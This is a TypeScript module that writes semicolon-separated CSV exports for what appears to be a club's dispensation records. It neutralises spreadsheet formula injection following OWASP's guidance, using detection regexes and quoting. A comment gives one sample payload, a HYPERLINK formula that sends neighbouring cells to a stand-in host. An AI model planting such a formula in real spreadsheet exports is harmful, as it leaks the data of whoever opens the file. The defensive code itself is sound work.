// The one way the gateway writes CSV (the dispensations file, the IRCCA report): `;` as separator
// (what a spreadsheet in Spanish opens as columns), CRLF line ends, UTF-8 (the browser adds a BOM).
//
// Cells hold text members and admins typed (names, treatment products, reasons, witnesses), and a
// spreadsheet runs a cell that starts with = + - @ as a formula: `=HYPERLINK("http://x/?d="&C3)`
// in a name sends the neighbouring cells away when the club opens the file. OWASP's rule (CSV
// injection): such a text gets a leading single quote, and it is quoted, its quotes doubled.
//
// Numbers are the club's own figures (grams, pesos, a signed adjustment such as -5): they stay
// plain, so the spreadsheet can add them. A finite number's text has no letters but `e` and
// cannot call anything; only values typed as numbers get this, never text that looks like one.

/**
 * What makes a spreadsheet evaluate a cell: OWASP's list (= + - @, tab, CR), also behind spaces
 * or quotes a reader may drop, plus the full-width forms some locales convert.
 */
const FORMULA_START = /^[\s\u00a0"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

/**
 * A separator or line break followed by a formula character: where the cell would start for a
 * spreadsheet that splits this file on `,` or tabs (another locale) and so ignores our quotes.
 */
const FORMULA_AFTER_SEPARATOR = /([,;\t\r\n][\s\u00a0"]*)(?=[=+\-@\uff1d\uff0b\uff0d\uff20])/g;

/** Quoted when it holds a separator a reader might use, a quote or a line break (RFC 4180). */
const NEEDS_QUOTES = /[";,\t\r\n]/;

/** One cell: a number as it is, a text neutralised and quoted as needed. */
export function csvCell(value: string | number): string {
  if (typeof value === 'number' && Number.isFinite(value)) return String(value);
  let text = String(value);
  const formula = FORMULA_START.test(text);
  if (formula) text = `'${text}`;
  text = text.replace(FORMULA_AFTER_SEPARATOR, "$1'");
  return formula || NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** Lines of cells as CSV text, each line ended by CRLF. */
export function csvText(lines: ReadonlyArray<ReadonlyArray<string | number>>): string {
  return lines.map((line) => `${line.map(csvCell).join(';')}\r\n`).join('');
}
